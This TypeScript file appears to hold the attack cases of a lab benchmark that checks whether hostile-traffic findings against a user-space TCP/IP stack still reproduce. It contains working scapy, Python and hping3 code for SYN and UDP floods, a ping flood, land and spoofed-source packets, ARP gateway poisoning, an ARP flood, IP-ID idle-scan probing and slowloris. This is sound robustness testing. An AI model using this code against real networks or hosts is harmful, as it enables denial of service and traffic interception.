/**
 * The attack cases of bench/attack.ts: the findings of issue 15 ("Hostile traffic"), each as an attack with a time
 * bound and a check of the reported behaviour. Each case says what it sends, what "the finding REPRODUCES" means,
 * and which of the stack's counters show that the attack reached it (`evidence`).
 *
 * Spoofed sources that must stay silent (SYN floods, bursts) come from 198.18.0.0/15 (RFC 2544's benchmark range): the
 * stack answers them through its gateway, the kernel (10.99.0.1, forwarding off), which drops the answers without a
 * RST — a real half-open flood. Attacks from the kernel's own address that need the same silence run in a lab whose
 * nftables table drops the kernel's RSTs to the stack (`dropKernelRsts`), as the issue's reporter did.
 *
 * @module
 */
import type { AfterProbes, DuringProbes, Lab, ProcSample, StackCounters, TapCounters } from "./lab.ts"
import { curl, OURS, prober, procSample, sleep } from "./lab.ts"
import { PY_CONNECT, python, scapy } from "./scapy.ts"

/** Options every case gets. */
export interface CaseOptions {
  /** Length of a flood or a hold, seconds. */
  readonly seconds: number
  /** Smaller counts (connections, senders) for a short run. */
  readonly quick: boolean
}

/** What an attack did and saw. */
export interface AttackResult {
  /** Attack packets (or connections) sent, as the tool reported. */
  readonly sent: number
  /** The unit of `sent`. */
  readonly unit: "pkts" | "conns"
  /** What the legitimate clients saw during the attack (floods and holds). */
  readonly during?: DuringProbes
  /** Case-specific observations. */
  readonly data: Readonly<Record<string, unknown>>
}

/** A snapshot of the stack process and its counters. */
export interface Snapshot {
  /** RSS and CPU. */
  readonly proc: ProcSample
  /** The stack's counters (undefined when it did not answer SIGUSR2 in time). */
  readonly stats: StackCounters | undefined
  /** The kernel side's TAP counters. */
  readonly tap: TapCounters
}

/** Everything measured around one attack. */
export interface Measurement {
  /** Before the attack. */
  readonly before: Snapshot
  /** RSS/CPU when the attack ended. */
  readonly attackEnd: ProcSample
  /** After the settle time, before the after-probes. */
  readonly after: Snapshot
  /** The largest RSS sampled (every 100 ms) from before the attack to the "after" snapshot. */
  readonly peakRss: number
  /** Whether the stack process was still running after the settle time. */
  readonly alive: boolean
  /** The after-attack probes (undefined when the process was gone). */
  readonly probes: AfterProbes | undefined
  /** When an after-probe failed: seconds from the end of the attack until `curl /` was served again (undefined: not within the recovery bound, or not measured). */
  readonly recoveredAfter?: number | undefined
}

/** Whether the reported behaviour is still there. */
export interface Finding {
  /** REPRODUCES: the issue's behaviour is seen; FIXED: it is not; UNCLEAR: the check could not decide. */
  readonly status: "REPRODUCES" | "FIXED" | "UNCLEAR"
  /** The figures behind the status. */
  readonly detail: string
}

/** One attack case. */
export interface AttackCase {
  /** Its id for `--only`. */
  readonly id: string
  /** What it sends. */
  readonly attack: string
  /** What "REPRODUCES" means (the issue's finding). */
  readonly finding: string
  /** Lab options: drop the kernel's RSTs; extra kernel addresses. */
  readonly lab?: { readonly dropKernelRsts?: boolean; readonly extraAddresses?: ReadonlyArray<string> }
  /** Counters (`layer.name`) whose increase shows the attack reached the stack. */
  readonly evidence: ReadonlyArray<string>
  /** Runs the attack. */
  readonly run: (lab: Lab, o: CaseOptions) => Promise<AttackResult>
  /** Judges the finding. */
  readonly judge: (m: Measurement, r: AttackResult, o: CaseOptions) => Finding
}

const MiB = 1024 * 1024

/** The increase of a counter (`layer.name`, or `device.name` / `http.name`), undefined when unknown. */
export const delta = (m: Measurement, key: string): number | undefined => {
  const [layer, name] = key.split(".")
  const pick = (s: StackCounters | undefined): number | undefined => {
    if (s === undefined) return undefined
    if (layer === "device") return s.device[name]
    if (layer === "http") return s.http[name]
    return s.layers[layer]?.[name]
  }
  const a = pick(m.before.stats)
  const b = pick(m.after.stats)
  return a === undefined || b === undefined ? undefined : b - a
}

const mib = (bytes: number): string => `${(bytes / MiB).toFixed(0)} MiB`
const cpuDuring = (m: Measurement): number => m.attackEnd.cpu - m.before.proc.cpu
const status = (reproduces: boolean, detail: string): Finding => ({
  status: reproduces ? "REPRODUCES" : "FIXED",
  detail,
})

/** Runs `flood` while probing every second. */
const withProber = async (
  lab: Lab,
  flood: () => Promise<{ sent: number; data: Record<string, unknown> }>,
  unit: "pkts" | "conns",
): Promise<AttackResult> => {
  const p = prober(lab)
  let r: { sent: number; data: Record<string, unknown> }
  try {
    r = await flood()
  } catch (e) {
    await p.stop()
    throw e
  }
  return { sent: r.sent, unit, during: await p.stop(), data: r.data }
}

/** An hping3 flood for `seconds`; returns the packets it sent (its statistics on SIGINT). */
const hping3 = async (lab: Lab, args: ReadonlyArray<string>, seconds: number) => {
  const r = await lab.exec(["hping3", ...args, OURS], seconds)
  const sent = Number(/(\d+) packets transmitted/.exec(r.stdout + r.stderr)?.[1] ?? "0")
  return { sent, data: {} }
}

/** A quiet observation window with probes, after a single-packet attack. */
const observe = async (lab: Lab, seconds: number): Promise<DuringProbes> => {
  const p = prober(lab)
  await sleep(seconds * 1000)
  return await p.stop()
}

/** The data segments a snippet reported. */
const segmentsOf = (list: unknown): Array<Record<string, number>> => (list ?? []) as Array<Record<string, number>>

/** Cases of a single crafted packet (or a few) that look at what the stack sent back. */
const landCase: AttackCase = {
  id: "land",
  attack: "one spoofed SYN 10.99.0.2:80 → 10.99.0.2:80 (land attack), then watch for the flood window",
  finding: "the stack talks to itself: > 50% of a core busy during the window, or RSS +256 MiB, or ping < 50%",
  evidence: ["ipv4.badSource", "tcp.segmentsIn"],
  run: async (lab, o) => {
    await scapy(
      lab,
      `sendp(eth()/IP(src=OURS, dst=OURS)/TCP(sport=80, dport=80, flags="S", seq=1000), iface=IFACE); out(sent=1)`,
      20,
    )
    return { sent: 1, unit: "pkts", during: await observe(lab, o.seconds), data: {} }
  },
  judge: (m, r, o) => {
    const cpu = cpuDuring(m)
    const growth = m.peakRss - m.before.proc.rss
    const ping = r.during === undefined ? 1 : r.during.pingOk / Math.max(1, r.during.pingTotal)
    return status(
      cpu > 0.5 * o.seconds || growth > 256 * MiB || ping < 0.5,
      `CPU ${cpu.toFixed(1)} s in ${o.seconds} s, RSS peak +${mib(growth)}`,
    )
  },
}

const udpSelfCase: AttackCase = {
  id: "udp-self",
  attack: "4 spoofed UDP datagrams 7 → 7: from our address, from 127.0.0.1, from our broadcast, to our broadcast",
  finding: "the echo service answers itself: > 100 datagrams sent by UDP, or > 50% of a core busy in the window",
  evidence: ["ipv4.badSource", "udp.rxDatagrams", "udp.txDatagrams"],
  run: async (lab, o) => {
    await scapy(
      lab,
      `u = UDP(sport=7, dport=7)
sendp([eth()/IP(src=OURS, dst=OURS)/u/b"own-source",
       eth()/IP(src="127.0.0.1", dst=OURS)/u/b"loopback-source",
       eth()/IP(src="10.99.0.255", dst=OURS)/u/b"broadcast-source",
       eth(dst="ff:ff:ff:ff:ff:ff")/IP(src=OURS, dst="10.99.0.255")/u/b"own-to-broadcast"], iface=IFACE)
out(sent=4)`,
      20,
    )
    return { sent: 4, unit: "pkts", during: await observe(lab, o.seconds), data: {} }
  },
  judge: (m, _r, o) => {
    const tx = delta(m, "udp.txDatagrams")
    const cpu = cpuDuring(m)
    return status(
      (tx ?? 0) > 100 || cpu > 0.5 * o.seconds,
      `UDP datagrams sent ${tx ?? "?"}, CPU ${cpu.toFixed(1)} s in ${o.seconds} s`,
    )
  },
}

const synBurstCase: AttackCase = {
  id: "syn-burst",
  attack: "128 SYNs to port 80 in one burst from silent spoofed sources (198.18.0.0/15), then curl every 0.5 s",
  finding: "port 80 refuses real clients: no curl succeeds within 3 s after the burst",
  evidence: ["tcp.segmentsIn", "tcp.passiveOpens", "tcp.segmentsOut"],
  run: async (lab, o) => {
    const n = 128
    await scapy(
      lab,
      `sendp([eth()/IP(src=f"198.18.{i // 200}.{i % 200 + 1}", dst=OURS)/
        TCP(sport=40000 + i, dport=80, flags="S", seq=random.getrandbits(32), options=[("MSS", 1460)])
        for i in range(${n})], iface=IFACE)
out(sent=${n})`,
      20,
    )
    const t0 = Date.now()
    let firstOk: number | undefined
    let ok = 0
    let total = 0
    let worst = 0
    const failures: Record<string, number> = {}
    while (Date.now() - t0 < o.seconds * 1000) {
      const t = Date.now()
      const c = await curl(lab, "/", 1)
      total++
      if (c.ok) {
        ok++
        worst = Math.max(worst, c.seconds)
        firstOk ??= (t - t0) / 1000
      } else failures[c.status] = (failures[c.status] ?? 0) + 1
      const rest = 500 - (Date.now() - t)
      if (rest > 0) await sleep(rest)
    }
    return {
      sent: n,
      unit: "pkts",
      during: { pingOk: 0, pingTotal: 0, curlOk: ok, curlTotal: total, curlWorst: worst, failures },
      data: { firstOk },
    }
  },
  judge: (m, r, o) => {
    const firstOk = r.data.firstOk as number | undefined
    // the attack's end is the end of the watch; the recovery watch counts from there
    const lockout = m.recoveredAfter === undefined ? undefined : o.seconds + m.recoveredAfter
    return status(
      firstOk === undefined || firstOk > 3,
      firstOk !== undefined
        ? `first real client served ${firstOk.toFixed(1)} s after the burst`
        : lockout !== undefined
        ? `port 80 served a real client again ~${lockout.toFixed(0)} s after the burst`
        : `no real client served for the whole ${o.seconds} s watch after the burst (nor in the recovery watch)`,
    )
  },
}

/** A flood judged by the legitimate curls during it. */
const floodCase = (
  id: string,
  attack: string,
  args: ReadonlyArray<string>,
  evidence: ReadonlyArray<string>,
  lab?: AttackCase["lab"],
): AttackCase => ({
  id,
  attack,
  finding: "the flood locks out or starves real TCP clients: fewer than 80% of the curls during it succeed (2 s " +
    "bound each), or the curl 2 s after it fails",
  ...(lab === undefined ? {} : { lab }),
  evidence,
  run: (l, o) => withProber(l, () => hping3(l, args, o.seconds), "pkts"),
  judge: (m, r) => {
    const d = r.during!
    const after = m.probes?.curl
    return status(
      d.curlOk < 0.8 * d.curlTotal || after?.ok !== true,
      `curl ${d.curlOk}/${d.curlTotal} during the flood, ${after?.ok === true ? "served" : "not served"} 2 s after`,
    )
  },
})

const pingFloodCase: AttackCase = {
  id: "ping-flood",
  attack: "ping -f (flood ping: as fast as the replies come back, at least 100/s) for the flood window",
  finding: "RSS grows with the requests: in the second half of the flood by ≥ 256 B per request, and ≥ 32 MiB " +
    "retained 2 s after it (issue: Deno ~2.7 KiB per request without bound; Bun levels off)",
  evidence: ["icmp.echoRequestsReceived", "icmp.echoRepliesSent"],
  run: (lab, o) =>
    withProber(lab, async () => {
      const flood = lab.exec(["ping", "-n", "-q", "-f", "-w", String(o.seconds), OURS], o.seconds + 5)
      await sleep((o.seconds * 1000) / 2)
      const mid = { rss: procSample(lab.pid)?.rss ?? 0, frames: (await lab.tap()).toStack }
      const r = await flood
      const end = { rss: procSample(lab.pid)?.rss ?? 0, frames: (await lab.tap()).toStack }
      const sent = Number(/(\d+) packets transmitted/.exec(r.stdout)?.[1] ?? "0")
      const received = Number(/(\d+) received/.exec(r.stdout)?.[1] ?? "0")
      return { sent, data: { received, secondHalf: (end.rss - mid.rss) / Math.max(1, end.frames - mid.frames) } }
    }, "pkts"),
  judge: (m, r) => {
    const requests = delta(m, "icmp.echoRequestsReceived") ?? r.sent
    const retained = m.after.proc.rss - m.before.proc.rss
    const slope = r.data.secondHalf as number
    return status(
      retained >= 32 * MiB && slope >= 256,
      `${requests} requests (${r.data.received} replies seen by ping): RSS +${(slope / 1024).toFixed(2)} KiB per ` +
        `request in the second half, ${retained >= 0 ? "+" : ""}${mib(retained)} retained ` +
        `(${(retained / Math.max(1, requests) / 1024).toFixed(2)} KiB/request), peak +${
          mib(m.peakRss - m.before.proc.rss)
        }`,
    )
  },
}

const arpPoisonCase: AttackCase = {
  id: "arp-poison",
  attack: "claims 10.99.0.1 (the gateway) for another MAC: an unsolicited reply, a gratuitous request, a request to us",
  finding: "the stack's next IP frames to 10.99.0.1 go to the attacker's MAC (or ping fails); ARP replies to the " +
    "attacker's request are not counted",
  evidence: ["arp.unsolicitedIgnored", "arp.updatesIgnored", "arp.requestsReceived", "arp.repliesReceived"],
  run: async (lab) => {
    const r = await scapy(
      lab,
      `FAKE = "02:de:ad:be:ef:01"
poison = [eth(src=FAKE)/ARP(op=2, hwsrc=FAKE, psrc=KERNEL, hwdst=SMAC, pdst=OURS),
          eth(src=FAKE, dst="ff:ff:ff:ff:ff:ff")/ARP(op=1, hwsrc=FAKE, psrc=KERNEL, hwdst="00:00:00:00:00:00", pdst=KERNEL),
          eth(src=FAKE, dst="ff:ff:ff:ff:ff:ff")/ARP(op=1, hwsrc=FAKE, psrc=KERNEL, hwdst="00:00:00:00:00:00", pdst=OURS)]
ready = threading.Event()
sn = AsyncSniffer(iface=IFACE, filter=f"ether src {SMAC}", store=True, started_callback=ready.set)
sn.start(); ready.wait(5); time.sleep(0.1)
for _ in range(3):
    sendp(poison, iface=IFACE); time.sleep(0.2)
p = subprocess.run(["ping", "-n", "-c", "3", "-i", "0.2", "-W", "1", OURS], capture_output=True, text=True)
time.sleep(0.3); sn.stop()
frames = list(sn.results or [])
m = re.search(r"(\\d+) received", p.stdout)
out(sent=9, toFake=sum(1 for f in frames if IP in f and f[Ether].dst == FAKE),
    toKernel=sum(1 for f in frames if IP in f and f[Ether].dst == KMAC), pingReceived=int(m.group(1)) if m else 0)`,
      20,
    )
    return { sent: 9, unit: "pkts", data: r }
  },
  judge: (_m, r) =>
    status(
      (r.data.toFake as number) > 0 || (r.data.pingReceived as number) < 3,
      `IP frames to the attacker's MAC ${r.data.toFake}, to the real one ${r.data.toKernel}, ` +
        `ping ${r.data.pingReceived}/3`,
    ),
}

const arpFloodCase: AttackCase = {
  id: "arp-flood",
  attack: "ARP requests for our address from N distinct spoofed senders (10.98.0.0/16, random MACs)",
  finding: "the ARP cache has no cap: no entry evicted although N is above the default cap (1 024)",
  evidence: ["arp.requestsReceived", "arp.repliesSent", "arp.evictions"],
  run: async (lab, o) => {
    const n = o.quick ? 2_000 : 5_000
    await scapy(
      lab,
      `frames = []
for i in range(${n}):
    mac = "02:aa:%02x:%02x:%02x:%02x" % (i >> 24 & 255, i >> 16 & 255, i >> 8 & 255, i & 255)
    frames.append(eth(src=mac, dst="ff:ff:ff:ff:ff:ff")/ARP(op=1, hwsrc=mac, psrc=f"10.98.{i // 250}.{i % 250 + 1}", pdst=OURS))
sendp(frames, iface=IFACE)
out(sent=${n})`,
      60,
    )
    return { sent: n, unit: "pkts", data: {} }
  },
  judge: (m, r) => {
    const requests = delta(m, "arp.requestsReceived")
    const evictions = delta(m, "arp.evictions")
    if (requests === undefined) return { status: "UNCLEAR", detail: "no counters from the stack" }
    return status(
      (evictions ?? 0) === 0,
      `${requests} requests from ${r.sent} senders, ${evictions ?? "no counter of"} evictions`,
    )
  },
}

const ipIdCase: AttackCase = {
  id: "ip-id",
  attack: "echo requests and SYN/ACK probes from two kernel addresses in turn (.1, .3); nmap's ipidseq script",
  finding: "one global, incremental IPv4 ID: the IDs of answers to both sources step by 1–4 (idle-scan zombie)",
  lab: { extraAddresses: ["10.99.0.3"] },
  evidence: ["icmp.echoRequestsReceived", "tcp.resetsSent"],
  run: async (lab) => {
    const r = await scapy(
      lab,
      `subprocess.run(["ping", "-n", "-c", "1", "-W", "1", "-I", "10.99.0.3", OURS], capture_output=True)
probes = []
for i in range(10):
    for src in (KERNEL, "10.99.0.3"):
        probes.append(eth()/IP(src=src, dst=OURS)/ICMP(id=0x4944, seq=len(probes)))
for i in range(10):
    for src in (KERNEL, "10.99.0.3"):
        probes.append(eth()/IP(src=src, dst=OURS)/TCP(sport=33000 + len(probes), dport=80, flags="SA", seq=1, ack=1))
ready = threading.Event()
sn = AsyncSniffer(iface=IFACE, filter=f"ether src {SMAC} and ip", store=True, started_callback=ready.set)
sn.start(); ready.wait(5); time.sleep(0.1)
sendp(probes, iface=IFACE, inter=0.02)
time.sleep(1); sn.stop()
ids = [[f[IP].dst, f[IP].id] for f in (sn.results or []) if (ICMP in f and f[ICMP].type == 0) or (TCP in f and f[TCP].flags.R)]
nm = subprocess.run(["nmap", "-n", "-Pn", "-p", "80", "--script", "ipidseq", OURS], capture_output=True, text=True)
m = re.search(r"ipidseq: (.*)", nm.stdout)
out(sent=len(probes), ids=ids, nmap=m.group(1).strip() if m else "no answer")`,
      40,
    )
    return { sent: r.sent as number, unit: "pkts", data: r }
  },
  judge: (_m, r) => {
    const ids = (r.data.ids as Array<[string, number]>).map(([, id]) => id)
    if (ids.length < 10) return { status: "UNCLEAR", detail: `only ${ids.length} answers; nmap: ${r.data.nmap}` }
    const steps = ids.slice(1).map((id, i) => (id - ids[i] + 65536) % 65536)
    const global = steps.every((s) => s >= 1 && s <= 4)
    return status(
      global,
      `${ids.length} answers to 2 sources, ID steps ${[...new Set(steps)].slice(0, 6).join(",")}` +
        `${new Set(steps).size > 6 ? ",…" : ""} (first IDs ${ids.slice(0, 4).join(",")}); nmap ipidseq: ${r.data.nmap}`,
    )
  },
}

const probeCase: AttackCase = {
  id: "probe-1byte",
  attack: "a peer (SYN window 8 192, scapy's default; no scaling) advertises 100 bytes from then on, requests 1000 " +
    "bytes, acknowledges the first data segment (window still 100), then nothing for 3 s",
  finding: "the stack sends a byte past the peer's window (a probe while the window is open)",
  lab: { dropKernelRsts: true },
  evidence: ["tcp.segmentsIn", "tcp.segmentsOut"],
  run: async (lab) => {
    const r = await scapy(
      lab,
      `sport = random.randint(20000, 60000); isn = random.getrandbits(32)
sa = srp1(eth()/IP(src=KERNEL, dst=OURS)/TCP(sport=sport, dport=80, flags="S", seq=isn, window=8192,
          options=[("MSS", 1460)]), iface=IFACE, timeout=3)
if sa is None:
    out(sent=1, handshake=False, segments=[])
    sys.exit(0)
y = sa[TCP].seq + 1
req = b"GET /bytes/1000 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"
segs = []; acked = [0]; t0 = time.time()
def on(f):
    if TCP not in f or len(f[TCP].payload) == 0: return
    off = (f[TCP].seq - y) % 2**32
    segs.append({"off": off, "len": len(f[TCP].payload), "ms": round((time.time() - t0) * 1000)})
    if acked[0] == 0:
        acked[0] = off + len(f[TCP].payload)
        sendp(eth()/IP(src=KERNEL, dst=OURS)/TCP(sport=sport, dport=80, flags="A", seq=isn + 1 + len(req),
              ack=y + acked[0], window=100), iface=IFACE)
ready = threading.Event()
sn = AsyncSniffer(iface=IFACE, filter=f"ether src {SMAC} and tcp src port 80 and tcp dst port {sport}", prn=on,
                  store=False, started_callback=ready.set)
sn.start(); ready.wait(5); time.sleep(0.1)
t0 = time.time()
sendp(eth()/IP(src=KERNEL, dst=OURS)/TCP(sport=sport, dport=80, flags="PA", seq=isn + 1, ack=y, window=100)/req,
      iface=IFACE)
time.sleep(3); sn.stop()
out(sent=3, handshake=True, segments=segs, acked=acked[0])`,
      20,
    )
    return { sent: r.sent as number, unit: "pkts", data: r }
  },
  judge: (_m, r) => {
    if (r.data.handshake !== true) return { status: "UNCLEAR", detail: "no SYN-ACK" }
    const segs = segmentsOf(r.data.segments)
    const edge = (r.data.acked as number) + 100
    const past = segs.filter((s) => s.off + s.len > edge)
    const list = segs.slice(0, 4).map((s) => `[${s.off},${s.off + s.len}) at ${s.ms} ms`).join(", ")
    return status(
      past.length > 0,
      `window edge ${edge} after our one ACK; ${segs.length} data segments: ${list}${segs.length > 4 ? ", …" : ""}`,
    )
  },
}

/**
 * A case of crafted frames: `frames` (Python) defines `control` (a frame that must be answered, else the case is
 * UNCLEAR), `attack` (a list of frames), `CONTROL` and `ATTACK` (the keys of their answers); `answered` is a Python
 * predicate on a frame from the stack, `key` a Python expression giving the key of an answer `f`.
 */
const craftedCase = (
  id: string,
  texts: { readonly attack: string; readonly finding: string },
  evidence: ReadonlyArray<string>,
  python: { readonly frames: string; readonly answered: string; readonly key: string },
  reproducesWhenAnswered: boolean,
): AttackCase => ({
  id,
  ...texts,
  evidence,
  run: async (lab) => {
    const r = await scapy(
      lab,
      `${python.frames}
got = [f for f in exchange([control] + attack, wait=1.5) if IP in f]
def answered(f): return ${python.answered}
def key(f): return ${python.key}
out(sent=len(attack) + 1, attacks=len(attack),
    control=any(answered(f) and key(f) == CONTROL for f in got),
    answers=sum(1 for f in got if answered(f) and key(f) in ATTACK),
    other=[f.summary() for f in got if f[IP].dst != KERNEL][:3])`,
      20,
    )
    return { sent: r.sent as number, unit: "pkts", data: r }
  },
  judge: (_m, r) => {
    if (r.data.control !== true) return { status: "UNCLEAR", detail: "the control frame got no answer either" }
    const answers = r.data.answers as number
    const other = (r.data.other as Array<string>).join("; ")
    const reproduces = reproducesWhenAnswered ? answers > 0 || other !== "" : answers === 0
    return status(
      reproduces,
      `${answers}/${r.data.attacks} answered (control answered)${other ? `; also ${other}` : ""}`,
    )
  },
})

const ICMP_ECHO_REPLY = { answered: "ICMP in f and f[ICMP].type == 0", key: "f[ICMP].id" }
const SYN_ACK = { answered: "TCP in f and f[TCP].flags.S and f[TCP].flags.A", key: "f[TCP].dport" }

const icmpCodeCase = craftedCase(
  "icmp-code",
  {
    attack: "ICMP echo requests with code 1 (three), after a normal one (code 0) as control",
    finding: "an echo request with code ≠ 0 is ignored (Linux answers)",
  },
  ["icmp.echoRequestsReceived", "icmp.echoRepliesSent", "icmp.malformed"],
  {
    frames: `CONTROL = 0x100; ATTACK = [0x101, 0x102, 0x103]
control = eth()/IP(src=KERNEL, dst=OURS)/ICMP(type=8, code=0, id=CONTROL)/b"control"
attack = [eth()/IP(src=KERNEL, dst=OURS)/ICMP(type=8, code=1, id=i)/b"code-1" for i in ATTACK]`,
    ...ICMP_ECHO_REPLY,
  },
  false,
)

const synFinCase = craftedCase(
  "syn-fin",
  {
    attack: "three SYN+FIN segments to port 80, after a plain SYN as control",
    finding: "a SYN+FIN is accepted (answered with SYN-ACK); Linux drops it",
  },
  ["tcp.segmentsIn", "tcp.segmentsOut"],
  {
    frames: `CONTROL = 41000; ATTACK = [41001, 41002, 41003]
control = eth()/IP(src=KERNEL, dst=OURS)/TCP(sport=CONTROL, dport=80, flags="S", seq=7)
attack = [eth()/IP(src=KERNEL, dst=OURS)/TCP(sport=p, dport=80, flags="SF", seq=7) for p in ATTACK]`,
    ...SYN_ACK,
  },
  true,
)

const synBadOptCase = craftedCase(
  "syn-badopt",
  {
    attack: "a SYN whose options are MSS then a timestamp option of length 3 (malformed), after a plain SYN as control",
    finding: "a SYN with one malformed option gets no SYN-ACK (Linux ignores the option and answers)",
  },
  ["tcp.segmentsIn", "tcp.malformed", "tcp.segmentsOut"],
  {
    frames: `CONTROL = 42000; ATTACK = [42001]
control = eth()/IP(src=KERNEL, dst=OURS)/TCP(sport=CONTROL, dport=80, flags="S", seq=7)
attack = [eth()/IP(src=KERNEL, dst=OURS)/TCP(sport=42001, dport=80, flags="S", seq=7, dataofs=7)/
          Raw(b"\\x02\\x04\\x05\\xb4\\x08\\x03\\x00\\x01")]`,
    ...SYN_ACK,
  },
  false,
)

const lsrrCase = craftedCase(
  "lsrr",
  {
    attack: "an echo request with an unfinished loose source route (LSRR via 10.99.0.77), after a plain one as control",
    finding: "the source-routed datagram is answered (or forwarded) as if we were its final destination",
  },
  ["ipv4.sourceRouted", "icmp.echoRequestsReceived"],
  {
    frames: `CONTROL = 0x200; ATTACK = [0x201]
control = eth()/IP(src=KERNEL, dst=OURS)/ICMP(id=CONTROL)/b"control"
attack = [eth()/IP(src=KERNEL, dst=OURS, options=[IPOption_LSRR(routers=["10.99.0.77"], pointer=4)])/ICMP(id=0x201)/b"lsrr"]`,
    ...ICMP_ECHO_REPLY,
  },
  true,
)

const oooCase: AttackCase = {
  id: "ooo",
  attack: "N raw connections to port 80 (handshake by scapy), then one out-of-order byte on each (seq + 1000)",
  finding: "one out-of-order byte costs a connection > 4 KiB of RSS (issue: 15–45 KiB; Linux ~1 KiB)",
  lab: { dropKernelRsts: true },
  evidence: ["tcp.passiveOpens", "tcp.segmentsIn"],
  run: async (lab, o) => {
    const n = o.quick ? 300 : 1_000
    const r = await scapy(
      lab,
      `import gc
isn = {}; ys = {}
rss0 = rss()
for b in range(0, ${n}, 100):
    ports = list(range(20000 + b, 20000 + min(b + 100, ${n})))
    for p in ports: isn[p] = random.getrandbits(31)
    got = exchange([eth()/IP(src=KERNEL, dst=OURS)/TCP(sport=p, dport=80, flags="S", seq=isn[p], options=[("MSS", 1460)])
                    for p in ports], wait=0.4, bpf=f"ether src {SMAC} and tcp src port 80")
    for f in got:
        if f[TCP].flags.S and f[TCP].flags.A: ys[f[TCP].dport] = f[TCP].seq + 1
    sendp([eth()/IP(src=KERNEL, dst=OURS)/TCP(sport=p, dport=80, flags="A", seq=isn[p] + 1, ack=ys[p])
           for p in ports if p in ys], iface=IFACE)
time.sleep(1.5); rss1 = rss()
sendp([eth()/IP(src=KERNEL, dst=OURS)/TCP(sport=p, dport=80, flags="A", seq=isn[p] + 1001, ack=ys[p])/b"x"
       for p in ys], iface=IFACE)
time.sleep(2); rss2 = rss()
out(sent=len(ys), rss0=rss0, rss1=rss1, rss2=rss2)`,
      90,
    )
    return { sent: r.sent as number, unit: "conns", data: r }
  },
  judge: (_m, r) => {
    const n = Math.max(1, r.sent)
    const base = ((r.data.rss1 as number) - (r.data.rss0 as number)) / n / 1024
    const ooo = ((r.data.rss2 as number) - (r.data.rss1 as number)) / n / 1024
    if (r.sent < 10) return { status: "UNCLEAR", detail: `only ${r.sent} connections established` }
    return status(
      ooo > 4,
      `${r.sent} connections: ${base.toFixed(1)} KiB each established, +${ooo.toFixed(1)} KiB each with 1 OOO byte`,
    )
  },
}

const stalledCase: AttackCase = {
  id: "stalled",
  attack: "N kernel connections (4 KiB receive buffer) each request 10 MB and never read; held, then closed",
  finding: "no stack-wide cap on send buffers: RSS grows by > 64 KiB per stalled download while they are held " +
    "(> 128 MiB for the full run's 2 000; issue: +280 MB)",
  evidence: ["tcp.passiveOpens", "http.requests"],
  run: (lab, o) =>
    withProber(lab, async () => {
      const n = o.quick ? 500 : 2_000
      const r = await python(
        lab,
        `${PY_CONNECT}
socks = connect_many(${n}, rcvbuf=4096)
for s in socks:
    try: s.sendall(b"GET /bytes/10000000 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
    except OSError: pass
time.sleep(${o.seconds})
held = sum(1 for s in socks if not closed_by_peer(s))
for s in socks: s.close()
out(sent=len(socks), held=held)`,
        o.seconds + 60,
      )
      return { sent: r.sent as number, data: r }
    }, "conns"),
  judge: (m, r) => {
    const growth = m.peakRss - m.before.proc.rss
    const retained = m.after.proc.rss - m.before.proc.rss
    return status(
      growth > 64 * 1024 * r.sent,
      `${r.sent} stalled downloads (${r.data.held} held to the end): RSS peak +${mib(growth)}, ` +
        `${mib(retained)} retained 2 s after closing`,
    )
  },
}

const slowlorisCase: AttackCase = {
  id: "slowloris",
  attack: "N connections to the HTTP server: half trickle a header line every 2 s, half send nothing",
  finding: "no header/idle timeout: ≥ 90% of the connections are still open at the end of the hold",
  evidence: ["tcp.passiveOpens", "http.connections"],
  run: (lab, o) =>
    withProber(lab, async () => {
      const n = o.quick ? 200 : 500
      const r = await python(
        lab,
        `${PY_CONNECT}
socks = connect_many(${n})
trickle = socks[: len(socks) // 2]
for s in trickle:
    try: s.send(b"GET / HTTP/1.1\\r\\nHost: x\\r\\n")
    except OSError: pass
t_end = time.time() + ${o.seconds}
while time.time() < t_end:
    time.sleep(min(2, max(0, t_end - time.time())))
    for s in trickle:
        try: s.send(b"X-a: b\\r\\n")
        except OSError: pass
open_t = sum(1 for s in trickle if not closed_by_peer(s))
open_i = sum(1 for s in socks[len(trickle):] if not closed_by_peer(s))
for s in socks: s.close()
out(sent=len(socks), trickleOpen=open_t, idleOpen=open_i, trickle=len(trickle))`,
        o.seconds + 60,
      )
      return { sent: r.sent as number, data: r }
    }, "conns"),
  judge: (_m, r, o) => {
    const open = (r.data.trickleOpen as number) + (r.data.idleOpen as number)
    return status(
      open >= 0.9 * r.sent,
      `after ${o.seconds} s: ${r.data.trickleOpen}/${r.data.trickle} trickling and ` +
        `${r.data.idleOpen}/${r.sent - (r.data.trickle as number)} silent connections still open`,
    )
  },
}

/** Every case, in the order they run. */
export const CASES: ReadonlyArray<AttackCase> = [
  landCase,
  udpSelfCase,
  synFinCase,
  synBadOptCase,
  lsrrCase,
  icmpCodeCase,
  arpPoisonCase,
  arpFloodCase,
  ipIdCase,
  probeCase,
  synBurstCase,
  floodCase(
    "syn-flood",
    "hping3 -S --flood to port 80 from the kernel's address, the kernel's RSTs dropped (real half-open flood)",
    ["-S", "--flood", "-p", "80"],
    ["tcp.segmentsIn", "tcp.passiveOpens", "tcp.segmentsOut"],
    { dropKernelRsts: true },
  ),
  floodCase(
    "syn-flood-rand",
    "hping3 -S --flood --rand-source to port 80 (random spoofed sources)",
    ["-S", "--flood", "--rand-source", "-p", "80"],
    ["tcp.segmentsIn", "tcp.passiveOpens", "ipv4.badSource"],
  ),
  floodCase(
    "udp-flood",
    "hping3 --udp --flood to the echo port 7 (64-byte datagrams)",
    ["--udp", "--flood", "-p", "7", "-d", "64"],
    ["udp.rxDatagrams", "udp.txDatagrams", "udp.queueOverflows"],
  ),
  pingFloodCase,
  oooCase,
  stalledCase,
  slowlorisCase,
]
